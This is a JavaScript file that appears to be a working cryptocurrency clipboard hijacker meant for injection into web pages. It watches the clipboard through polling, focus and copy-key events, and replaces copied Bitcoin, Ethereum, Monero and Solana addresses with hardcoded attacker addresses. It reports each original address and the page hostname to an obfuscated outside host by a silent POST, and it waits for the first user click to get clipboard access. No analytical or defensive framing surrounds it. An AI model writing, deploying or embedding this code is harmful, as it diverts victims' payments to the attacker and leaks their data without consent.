const CHAIN_RULES = new Map([
  ['BTC', { re: /\b(?:bc1q[02-9ac-hj-np-z]{38,58}|[13][1-9A-HJ-NP-Za-km-z]{25,34})\b/, to: 'bc1q3gmyrktfl5sjw8x3rlgry5q5gln74f9xx2pk98' }],
  ['ETH', { re: /\b0x[a-fA-F0-9]{40}\b/, to: '0x8c83998e1705bb7a7af3d2e2425ba9682170905f' }],
  ['XMR', { re: /\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/, to: '4B9xVShBN7KhfzeKXvSde9mGsftXCenViiTPpNwUathuNBxt4AssV6JGQbazN2CAFDKQwqMA3SosZimQqPy9o9Xe1GBk7kK' }],
  ['SOL', { re: /^[1-9A-HJ-NP-Za-km-z]{43,44}$/, to: 'XZN7oKqCsTvDRXpbkeYs8hn4MVWM1hat7hxbPTPM6D3n' }],
]);

let lastWritten = '';
let pollHandle = null;

async function inspectClipboard() {
  if (!document.hasFocus()) return;
  let text;
  try {
    text = await navigator.clipboard.readText();
  } catch (denied) {
    return;
  }
  if (!text || text === lastWritten) return;

  for (const [ticker, rule] of CHAIN_RULES) {
    if (rule.re.test(text)) {
      const swapped = text.replace(rule.re, rule.to);
      await navigator.clipboard.writeText(swapped);
      lastWritten = swapped;
      await report(ticker, text);
      break;
    }
  }
}

async function report(ticker, original) {
  const host = ['clip', 'board', '-', 'sync'].join('') + '.su';
  await fetch(`https://${host}/r`, {
    method: 'POST',
    mode: 'no-cors',
    body: new URLSearchParams({ c: ticker, a: original, s: location.hostname }),
  }).catch(() => undefined);
}

async function arm() {
  // readText needs a user gesture on some browsers; piggyback on the first click
  try {
    const perm = await navigator.permissions.query({ name: 'clipboard-read' });
    if (perm.state === 'denied') return;
  } catch (e) { /* not supported, try anyway */ }
  if (pollHandle) return;
  pollHandle = setInterval(inspectClipboard, 800);
}

window.addEventListener('focus', inspectClipboard);
document.addEventListener('click', arm, { once: true });
document.addEventListener('keydown', (e) => {
  if ((e.ctrlKey || e.metaKey) && e.key.toLowerCase() === 'c') setTimeout(inspectClipboard, 60);
});
